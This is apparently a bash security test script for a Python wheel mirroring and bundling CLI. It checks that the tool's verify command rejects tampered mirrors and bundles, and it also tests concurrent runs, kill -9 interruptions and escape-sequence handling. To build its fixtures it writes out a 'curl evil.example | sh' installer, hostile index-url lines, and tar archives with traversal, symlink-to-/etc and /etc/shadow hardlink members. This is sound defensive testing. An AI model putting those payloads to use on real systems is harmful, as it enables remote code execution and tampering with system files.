#!/usr/bin/env bash
# tests/cli/t-attacks-outputs.sh: the attack matrix, part 6: outputs that lie (issue 18, items
# 1, 3, 4, 5): mirrors a re-run must not delete from, tampered mirrors, bundles and wheelhouses
# verify must catch, kill -9 and two writers at once, fetching held to the catalog, -d that is no
# folder, and messages that never echo control characters.
#   WHEELPICK=build/wheelpick bash tests/cli/t-attacks-outputs.sh
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/attacks-lib.sh"
make_sample
export WHEELPICK_RETRY_BASE_MS=20
T="--cuda 11.2 --python 3.8 --platform linux_x86_64"
M="$TMP/mir"
snapshot() { (cd "$1" && find . -type f -print0 | sort -z | xargs -0 sha256sum); }
retar() { # DIR OUT: the folder's one top folder, again as a .tar.zst (named as the bundle names it)
	tar -C "$1" --zstd -cf "$2" "$(ls "$1")"
}
expect_exit 0 "a catalog" wp update --index "$FINDLINKS"

# --- mirrors: a re-run never deletes what it did not write (issue item c) ----------------

attack "mirror DIR without --prune leaves another tool's pages alone"
mkdir -p "$M/simple/other-tool" "$M/simple/numpy"
printf '<a href="x-1.0-py3-none-any.whl">x</a>\n' >"$M/simple/other-tool/index.html"
printf '<a href="numpy-9.9-py3-none-any.whl">kept by hand</a>\n' >"$M/simple/numpy/index.html"
cp "$M/simple/other-tool/index.html" "$TMP/other.html"
expect_exit 0 "a mirror into that tree" wp mirror "$M" torch==1.8.0 $T --index "$FINDLINKS"
expect_file "the foreign project's page is still there" "$M/simple/other-tool/index.html"
cmp -s "$M/simple/other-tool/index.html" "$TMP/other.html" && pass "unchanged" || fail "another tool's page changed"
expect_grep "a page it shares keeps the foreign link, or the run refuses" "numpy-9\.9" "$M/simple/numpy/index.html"

attack "a mirror whose manifest was lost: a re-run deletes nothing it cannot prove it wrote"
find "$M" -maxdepth 1 -name '*manifest*' -exec rm -f {} +
mkdir -p "$M/files/foreign"
printf 'not ours\n' >"$M/files/foreign/notes.txt"
expect_exit 0 "re-run" wp mirror "$M" torch==1.7.1 $T --index "$FINDLINKS"
expect_file "the foreign file stays" "$M/files/foreign/notes.txt"
expect_file "the foreign page stays" "$M/simple/other-tool/index.html"

attack "mirror --prune removes only files it wrote"
printf 'mine, not wheelpick'"'"'s\n' >"$M/README.local"
expect_exit 0 "prune" wp mirror "$M" torch==1.7.1 $T --index "$FINDLINKS" --prune
expect_file "a foreign file at the root stays" "$M/README.local"
expect_file "a foreign file under files/ stays" "$M/files/foreign/notes.txt"
expect_file "a foreign page stays" "$M/simple/other-tool/index.html"

# --- verify catches a tampered mirror -----------------------------------------------------

fresh mv
expect_exit 0 "a mirror" wp mirror "$TMP/mv" torch==1.8.0 $T --index "$FINDLINKS"
expect_exit 0 "that verifies" wp verify "$TMP/mv"
cp -a "$TMP/mv" "$TMP/mv.good"
tamper() { rm -rf "$TMP/mv" && cp -a "$TMP/mv.good" "$TMP/mv"; }
W=$(cd "$TMP/mv" && ls files/torch/*.whl | head -1)
V=$(cd "$TMP/mv" && ls files/typing-extensions/*.whl 2>/dev/null | head -1)

attack "verify: a page whose hash is not its file's"
tamper
sed -i 's/#sha256=\([0-9a-f]\)/#sha256=0/' "$TMP/mv/simple/torch/index.html"
expect_exit 4 "exit 4" wp verify "$TMP/mv"

attack "verify: a file swapped for another (with its page left alone)"
tamper
cp "$TMP/mv/$V" "$TMP/mv/$W"
expect_exit 4 "exit 4" wp verify "$TMP/mv"

attack "verify: an extra file nobody lists"
tamper
cp "$TMP/mv/$W" "$TMP/mv/files/torch/torch-9.9.9-cp38-cp38-linux_x86_64.whl"
expect_exit 4 "exit 4" wp verify "$TMP/mv"
expect_grep "naming it" "torch-9\.9\.9" "$TMP/err"

attack "verify: a listed file missing"
tamper
rm -f "$TMP/mv/$W"
expect_exit 4 "exit 4" wp verify "$TMP/mv"

attack "verify: a .metadata that is not the wheel's METADATA"
tamper
meta=$(find "$TMP/mv" -name '*.whl.metadata' | head -1)
if [ -n "$meta" ]; then
	printf 'Metadata-Version: 2.1\nName: torch\nVersion: 1.8.0\nRequires-Dist: evil-pkg\n' >"$meta"
	expect_exit 4 "exit 4" wp verify "$TMP/mv"
	expect_grep "naming it" "metadata" "$TMP/err"
else
	fail "the mirror writes no PEP 658 .metadata files to check"
fi

# --- bundles --------------------------------------------------------------------------------

fresh bu
expect_exit 0 "a bundle" wp bundle "$TMP/b.tar.zst" torch==1.8.0 $T --index "$FINDLINKS"
mkdir -p "$TMP/bx" && tar -C "$TMP/bx" --zstd -xf "$TMP/b.tar.zst"
top=$(ls "$TMP/bx")

attack "verify: a bundle whose install.sh was replaced by 'curl evil | sh'"
cp -a "$TMP/bx" "$TMP/b1"
printf '#!/bin/sh\ncurl -s https://evil.example/x | sh\n' >"$TMP/b1/$top/install.sh"
retar "$TMP/b1" "$TMP/b1.tar.zst"
expect_exit 4 "exit 4" wp verify "$TMP/b1.tar.zst"
expect_grep "naming install.sh" "install\.sh" "$TMP/err"

attack "verify: a bundle whose requirements.txt adds --index-url / --find-links / -e lines"
for line in "--index-url https://evil.example/simple" "--find-links https://evil.example/" "-e git+https://evil.example/x#egg=x" \
	"--extra-index-url https://evil.example/simple"; do
	rm -rf "$TMP/b2" && cp -a "$TMP/bx" "$TMP/b2"
	printf '%s\n' "$line" >>"$TMP/b2/$top/requirements.txt"
	retar "$TMP/b2" "$TMP/b2.tar.zst"
	expect_exit 4 "'${line:0:20}' is refused" wp verify "$TMP/b2.tar.zst"
done

attack "verify: a wheelhouse whose requirements name a file that is not in it, or that lacks requirements.txt"
fresh wv
expect_exit 0 "a wheelhouse" wp torch==1.8.0 $T --index "$FINDLINKS" -d "$TMP/wv"
cp -a "$TMP/wv" "$TMP/wv2"
printf 'evil-pkg==1.0 --hash=sha256:%064d\n' 0 >>"$TMP/wv2/requirements.txt"
expect_exit 4 "a requirement with no file" wp verify "$TMP/wv2"
cp -a "$TMP/wv" "$TMP/wv3"
printf -- '--find-links https://evil.example/\n' >>"$TMP/wv3/requirements.txt"
expect_exit 4 "an option line" wp verify "$TMP/wv3"
cp -a "$TMP/wv" "$TMP/wv4"
rm -f "$TMP/wv4/requirements.txt"
expect_exit 4 "no requirements.txt" wp verify "$TMP/wv4"
cp -a "$TMP/wv" "$TMP/wv5"
mkfifo "$TMP/wv5/extra.whl"
expect_fast "a FIFO in it: no hang" 20 timeout 25 "$WHEELPICK" verify "$TMP/wv5"
expect_eq "a FIFO in it: exit 4" "$RC" 4
cp -a "$TMP/wv" "$TMP/wv6"
cp "$TMP/wv6/$(ls "$TMP/wv6" | grep whl | head -1)" "$TMP/wv6/unlisted-1.0-py3-none-any.whl"
expect_exit 4 "an unlisted wheel" wp verify "$TMP/wv6"

attack "verify: bundles with traversal, links, devices, duplicate members"
for kind in traversal symlink hardlink device duplicate absolute; do
	"$PYTHON" - "$TMP/bx/$top" "$TMP/evil-$kind.tar" "$kind" "$top" <<'PY'
import os, sys, tarfile, io
src, out, kind, top = sys.argv[1:5]
with tarfile.open(out, "w") as t:
    t.add(src, arcname=top)
    def reg(name, data=b"x"):
        ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
    if kind == "traversal": reg(top + "/../../../tmp/wp-evil")
    if kind == "absolute": reg("/tmp/wp-evil")
    if kind == "symlink":
        ti = tarfile.TarInfo(top + "/site"); ti.type = tarfile.SYMTYPE; ti.linkname = "/etc"; t.addfile(ti)
        reg(top + "/site/wp-evil")
    if kind == "hardlink":
        ti = tarfile.TarInfo(top + "/shadow"); ti.type = tarfile.LNKTYPE; ti.linkname = "../../../../etc/shadow"; t.addfile(ti)
    if kind == "device":
        ti = tarfile.TarInfo(top + "/mem"); ti.type = tarfile.CHRTYPE; ti.devmajor, ti.devminor = 1, 1; t.addfile(ti)
    if kind == "duplicate": reg(top + "/install.sh", b"#!/bin/sh\necho second copy\n")
PY
	zstd -q -f "$TMP/evil-$kind.tar" -o "$TMP/evil-$kind.tar.zst"
	expect_exit 4 "a bundle with a $kind member" wp verify "$TMP/evil-$kind.tar.zst"
done
expect_no_file "nothing written outside" /tmp/wp-evil

attack "a killed bundle's staging is never bundled by a later run with the same PID"
fresh bk
kill_loop() {
	local n=$1 i pid
	shift
	for i in $(seq 1 "$n"); do
		"$@" >/dev/null 2>&1 &
		pid=$!
		sleep "0.$((RANDOM % 3))$((RANDOM % 10))"
		kill -9 "$pid" 2>/dev/null
		wait "$pid" 2>/dev/null
	done
}
kill_loop 30 "$WHEELPICK" bundle "$TMP/bk.tar.zst" torch torchvision $T --index "$FINDLINKS"
# a temp name is swept once its PID is gone and it is 2 s old (base/fs.c: a writer in another PID
# namespace is never robbed of a fresh one); the last killed run's may be younger than that
sleep 2
expect_exit 0 "a re-run completes" wp bundle "$TMP/bk.tar.zst" torch torchvision $T --index "$FINDLINKS"
expect_exit 0 "and verifies" wp verify "$TMP/bk.tar.zst"
expect_eq "no staging left beside it" "$(find "$TMP" -maxdepth 1 -name 'bk.tar.zst?*' -o -maxdepth 1 -name 'bundle.*' | wc -l)" 0

attack "kill -9 during mirror (30 times): the tree verifies after a re-run, nothing staged is left"
fresh mk
kill_loop 30 "$WHEELPICK" mirror "$TMP/mk" torch torchvision $T --index "$FINDLINKS"
expect_exit 0 "a re-run completes" wp mirror "$TMP/mk" torch torchvision $T --index "$FINDLINKS"
expect_exit 0 "and verifies" wp verify "$TMP/mk"
expect_eq "no temp names left" "$(find "$TMP/mk" -name '*.tmp.*' | wc -l)" 0

attack "two mirror into one tree at once, five times: both finish, the tree verifies"
fresh m2
bad=0
for i in 1 2 3 4 5; do
	rm -rf "$TMP/m2"
	"$WHEELPICK" mirror "$TMP/m2" torch==1.8.0 $T --index "$FINDLINKS" >/dev/null 2>"$TMP/a.err" &
	a=$!
	"$WHEELPICK" mirror "$TMP/m2" torch==1.7.1 $T --index "$FINDLINKS" >/dev/null 2>"$TMP/b.err"
	rb=$?
	wait $a
	ra=$?
	{ [ "$ra$rb" = 00 ] && "$WHEELPICK" verify "$TMP/m2" >/dev/null 2>&1 &&
		grep -q 'torch-1\.8\.0' "$TMP/m2/simple/torch/index.html" && grep -q 'torch-1\.7\.1' "$TMP/m2/simple/torch/index.html"; } ||
		{ bad=$((bad + 1)); cat "$TMP/a.err" "$TMP/b.err" >&2; }
done
expect_eq "five rounds, each with both versions" "$bad" 0

# --- ops/wheel/pick.c, ops/core/targets.c, cli/ ----------------------------------------------------------

attack "pick --no-deps from an index without hashes: the first-seen hash holds (ops/wheel/pick.c hands fetching the catalog)"
fresh nd
mkdir -p "$TMP/nd/a" "$TMP/nd/b"
"$PYTHON" "$FIX" wheel "$TMP/nd/a" demo-pkg 1.0 >/dev/null
"$PYTHON" "$FIX" wheel "$TMP/nd/b" demo-pkg 1.0 --payload 'other = 1' >/dev/null
printf '<a href="a/demo_pkg-1.0-py3-none-any.whl">x</a>\n' >"$TMP/nd/page.html"
expect_exit 0 "first" wp demo-pkg --cuda cpu --python 3.8 --platform linux_x86_64 --no-deps --index "file://$TMP/nd/page.html" -d "$TMP/ndw"
cp "$TMP/ndw/demo_pkg-1.0-py3-none-any.whl" "$TMP/nd-first.whl"
printf '<a href="b/demo_pkg-1.0-py3-none-any.whl">x</a>\n' >"$TMP/nd/page.html"
expect_exit 4 "the other bytes" wp demo-pkg --cuda cpu --python 3.8 --platform linux_x86_64 --no-deps --index "file://$TMP/nd/page.html" \
	-d "$TMP/ndw" --refresh
cmp -s "$TMP/ndw/demo_pkg-1.0-py3-none-any.whl" "$TMP/nd-first.whl" && pass "the wheelhouse keeps the first" ||
	fail "the wheelhouse copy was replaced or removed"

attack "-d naming a file: refused before anything is downloaded (ops/wheel/pick.c)"
fresh dd
printf 'x' >"$TMP/a-file"
expect_exit 3 "exit 3" wp torch==1.8.0 --no-deps $T --index "$FINDLINKS" -d "$TMP/a-file"
expect_eq "nothing fetched first" "$(find "$WHEELPICK_CACHE_DIR/files" -type f 2>/dev/null | wc -l)" 0

attack "messages never echo control characters or 100 KB values raw (ops/core/targets.c, cli/)"
for v in WHEELPICK_CUDA_COMPAT WHEELPICK_PYTHON WHEELPICK_PLATFORM WHEELPICK_CUDA; do
	env "$v=$(printf 'x\033[2Jy')" "$WHEELPICK" torch==1.8.0 --no-deps --index "$FINDLINKS" --dry-run >/dev/null 2>"$TMP/err"
	if grep -q "$(printf '\033')" "$TMP/err"; then fail "$v: an escape sequence reached the terminal"; else pass "$v: escaped"; fi
	env "$v=$(head -c 100000 /dev/zero | tr '\0' x)" "$WHEELPICK" torch==1.8.0 --no-deps --index "$FINDLINKS" --dry-run >/dev/null 2>"$TMP/err"
	[ "$(wc -c <"$TMP/err")" -lt 2000 ] && pass "$v: a long value is cut" || fail "$v: $(wc -c <"$TMP/err") bytes of message"
done
env WHEELPICK_DEST="$TMP/$(printf 'd\033[2J')" "$WHEELPICK" torch==1.8.0 --no-deps $T --index "$FINDLINKS" >"$TMP/out" 2>&1
if grep -q "$(printf '\033')" "$TMP/out"; then fail "WHEELPICK_DEST: the printed pip command carries the escape"; else pass "WHEELPICK_DEST: quoted"; fi

done_matrix
